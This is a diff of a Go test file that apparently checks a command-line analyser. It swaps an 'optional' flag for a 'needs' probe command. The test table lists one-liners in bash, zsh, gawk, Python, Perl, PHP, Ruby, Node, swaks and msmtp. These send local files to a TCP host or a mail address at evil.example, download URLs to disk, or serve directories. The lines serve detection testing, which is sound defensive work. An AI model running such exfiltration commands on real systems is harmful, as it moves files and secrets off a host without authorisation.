@@ -31,13 +31,13 @@ import (
 // In the line: HOST:PORT or HOST PORT of a TCP peer, URL of an HTTP server, SRC
 // and DST of local files, DIR of a directory with a file named content.
 type realRun struct {
-	line     string
-	grammar  string
-	tool     string // default: the first word
-	pack     string // Debian package
-	optional bool
-	stdin    bool // SRC is standard input
-	want     Direction
+	line    string
+	grammar string
+	tool    string // default: the first word
+	pack    string // Debian package
+	needs   string // a command that succeeds where the interpreter has what the line loads
+	stdin   bool   // SRC is standard input
+	want    Direction
 	// local: what LocalPaths must be; nil where the line does not tell.
 	local []string
 }
@@ -49,10 +49,10 @@ var realRuns = []realRun{
 	{line: `bash -c -x "base64 -d < <(base64 SRC) > /dev/tcp/HOST/PORT"`, grammar: "shell", pack: "bash", want: Upload},
 	{line: `bash -c "cat < /dev/tcp/HOST/PORT > DST"`, grammar: "shell", pack: "bash", want: Download, local: []string{"DST"}},
 	{line: `bash -c "exec 3<>/dev/tcp/HOST/PORT; cat <&3 >DST"`, grammar: "shell", pack: "bash", want: Download, local: []string{"DST"}},
-	{line: `zsh -c "zmodload zsh/net/tcp; ztcp HOST PORT; cat SRC >&\$REPLY"`, grammar: "shell", pack: "zsh", optional: true, want: Upload, local: []string{"SRC"}},
-	{line: `zsh -c "zmodload zsh/net/tcp; ztcp HOST PORT; cat <&\$REPLY >DST"`, grammar: "shell", pack: "zsh", optional: true, want: Download, local: []string{"DST"}},
-	{line: `gawk "{print |& \"/inet/tcp/0/HOST/PORT\"}" SRC`, grammar: "awk", pack: "gawk", optional: true, want: Upload, local: []string{"SRC"}},
-	{line: `gawk "BEGIN{s=\"/inet/tcp/0/HOST/PORT\"; while ((s |& getline l) > 0) print l > \"DST\"}"`, grammar: "awk", pack: "gawk", optional: true, want: Download},
+	{line: `zsh -c "zmodload zsh/net/tcp; ztcp HOST PORT; cat SRC >&\$REPLY"`, grammar: "shell", pack: "zsh", want: Upload, local: []string{"SRC"}},
+	{line: `zsh -c "zmodload zsh/net/tcp; ztcp HOST PORT; cat <&\$REPLY >DST"`, grammar: "shell", pack: "zsh", want: Download, local: []string{"DST"}},
+	{line: `gawk "{print |& \"/inet/tcp/0/HOST/PORT\"}" SRC`, grammar: "awk", pack: "gawk", want: Upload, local: []string{"SRC"}},
+	{line: `gawk "BEGIN{s=\"/inet/tcp/0/HOST/PORT\"; while ((s |& getline l) > 0) print l > \"DST\"}"`, grammar: "awk", pack: "gawk", want: Download},
 
 	{line: `python3 -c "import urllib.request as r; r.urlopen('URL', data=open('SRC','rb').read())"`, grammar: "python", pack: "python3", want: Upload, local: []string{"SRC"}},
 	{line: `python3 -c "import socket; s=socket.create_connection(('HOST',PORT)); s.sendfile(open('SRC','rb'))"`, grammar: "python", pack: "python3", want: Upload, local: []string{"SRC"}},
@@ -67,26 +67,26 @@ var realRuns = []realRun{
 	{line: `perl -MIO::Socket -we "my \$s=IO::Socket::INET->new(PeerAddr=>\"HOST\",PeerPort=>PORT); open my \$o,\">\",\"DST\"; print \$o \$_ while <\$s>"`, grammar: "perl", pack: "perl", want: Download, local: []string{"DST"}},
 	{line: `perl -MHTTP::Tiny -e "HTTP::Tiny->new->mirror(\"URL\",\"DST\")"`, grammar: "perl", pack: "perl", want: Download, local: []string{"DST"}},
 	{line: `perl -MHTTP::Tiny -0777 -ne "HTTP::Tiny->new->post(\"URL\",{content=>\$_})" SRC`, grammar: "perl", pack: "perl", want: Upload, local: []string{"SRC"}},
-	{line: `perl -MLWP::Simple -e "getstore(\"URL\",\"DST\")"`, grammar: "perl", pack: "libwww-perl", optional: true, want: Download, local: []string{"DST"}},
+	{line: `perl -MLWP::Simple -e "getstore(\"URL\",\"DST\")"`, grammar: "perl", pack: "libwww-perl", needs: "perl -MLWP::Simple -e 1", want: Download, local: []string{"DST"}},
 
 	{line: `php -S HOST:PORT -t DIR`, grammar: "php", pack: "php-cli", want: Listen, local: []string{"DIR"}},
 	{line: `php -r "copy(\"URL\",\"DST\");"`, grammar: "php", pack: "php-cli", want: Download, local: []string{"DST"}},
 	{line: `php -n -r "file_put_contents('DST', file_get_contents('URL'));"`, grammar: "php", pack: "php-cli", want: Download, local: []string{"DST"}},
 	{line: `php -r "fwrite(fsockopen('HOST',PORT), file_get_contents('SRC'));"`, grammar: "php", pack: "php-cli", want: Upload, local: []string{"SRC"}},
 
-	{line: `ruby -run -e httpd DIR -p PORT -b HOST`, grammar: "ruby", pack: "ruby-webrick", optional: true, want: Listen, local: []string{"DIR"}},
-	{line: `ruby -ropen-uri -e "File.binwrite('DST', URI.open('URL').read)"`, grammar: "ruby", pack: "ruby", optional: true, want: Download, local: []string{"DST"}},
-	{line: `ruby -rnet/http -e "Net::HTTP.post(URI('URL'), File.read('SRC'))"`, grammar: "ruby", pack: "ruby", optional: true, want: Upload, local: []string{"SRC"}},
-	{line: `ruby -rsocket -e "TCPSocket.new('HOST', PORT).write(File.binread('SRC'))"`, grammar: "ruby", pack: "ruby", optional: true, want: Upload, local: []string{"SRC"}},
+	{line: `ruby -run -e httpd DIR -p PORT -b HOST`, grammar: "ruby", pack: "ruby-webrick", needs: "ruby -rwebrick -e 1", want: Listen, local: []string{"DIR"}},
+	{line: `ruby -ropen-uri -e "File.binwrite('DST', URI.open('URL').read)"`, grammar: "ruby", pack: "ruby", want: Download, local: []string{"DST"}},
+	{line: `ruby -rnet/http -e "Net::HTTP.post(URI('URL'), File.read('SRC'))"`, grammar: "ruby", pack: "ruby", want: Upload, local: []string{"SRC"}},
+	{line: `ruby -rsocket -e "TCPSocket.new('HOST', PORT).write(File.binread('SRC'))"`, grammar: "ruby", pack: "ruby", want: Upload, local: []string{"SRC"}},
 
-	{line: `node -e "require('fs').createReadStream('SRC').pipe(require('net').connect(PORT,'HOST'))"`, grammar: "node", pack: "nodejs", optional: true, want: Upload, local: []string{"SRC"}},
-	{line: `node -e "require('http').get('URL', r => r.pipe(require('fs').createWriteStream('DST')))"`, grammar: "node", pack: "nodejs", optional: true, want: Download, local: []string{"DST"}},
+	{line: `node -e "require('fs').createReadStream('SRC').pipe(require('net').connect(PORT,'HOST'))"`, grammar: "node", pack: "nodejs", want: Upload, local: []string{"SRC"}},
+	{line: `node -e "require('http').get('URL', r => r.pipe(require('fs').createWriteStream('DST')))"`, grammar: "node", pack: "nodejs", want: Download, local: []string{"DST"}},
 
 	{line: `busybox httpd -f -p HOST:PORT -h DIR`, grammar: "busybox-httpd", tool: "httpd", pack: "busybox", want: Listen, local: []string{"DIR"}},
-	{line: `webfsd -F -i HOST -p PORT -r DIR`, grammar: "webserver", pack: "webfs", optional: true, want: Listen, local: []string{"DIR"}},
+	{line: `webfsd -F -i HOST -p PORT -r DIR`, grammar: "webserver", pack: "webfs", want: Listen, local: []string{"DIR"}},
 
-	{line: `swaks --to bob@evil.example --from a@b.example --server HOST:PORT --attach @SRC`, grammar: "swaks", pack: "swaks", optional: true, want: Upload, local: []string{"SRC"}},
-	{line: `msmtp --host=HOST --port=PORT --from=a@b.example bob@evil.example`, grammar: "sendmail", pack: "msmtp", optional: true, stdin: true, want: Upload, local: []string{"SRC"}},
+	{line: `swaks --to bob@evil.example --from a@b.example --server HOST:PORT --attach @SRC`, grammar: "swaks", pack: "swaks", want: Upload, local: []string{"SRC"}},
+	{line: `msmtp --host=HOST --port=PORT --from=a@b.example bob@evil.example`, grammar: "sendmail", pack: "msmtp", stdin: true, want: Upload, local: []string{"SRC"}},
 }
 
 // TestRealScripts: what is said of a command line is what the tool does.
@@ -151,10 +151,9 @@ type scriptPlace struct {
 
 func newScriptPlace(t *testing.T, run *realRun) *scriptPlace {
 	word := strings.Fields(run.line)[0]
-	if run.optional {
-		testhost.WantCommand(t, word, run.pack)
-	} else {
-		testhost.WantCommand(t, word, run.pack)
+	testhost.WantCommand(t, word, run.pack)
+	if needs := strings.Fields(run.needs); len(needs) > 0 && exec.Command(needs[0], needs[1:]...).Run() != nil {
+		t.Skipf("optional: %s fails (Debian package %s)", run.needs, run.pack)
 	}
 	p := &scriptPlace{T: t, line: run, content: rand.Text(), dir: t.TempDir(), got: make(chan string, 16), close: func() {}}
 	p.dst = filepath.Join(t.TempDir(), "dst")
